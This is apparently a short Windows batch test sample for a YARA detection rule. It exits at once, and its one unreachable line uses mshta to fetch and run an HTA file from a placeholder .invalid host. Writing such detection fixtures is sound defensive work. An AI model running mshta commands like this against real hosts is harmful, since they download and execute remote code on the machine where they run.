@rem canhgac YARA test sample - inert: exits at once; URLs are under the reserved .invalid TLD
@exit /b 0
mshta http://example.invalid/x.hta
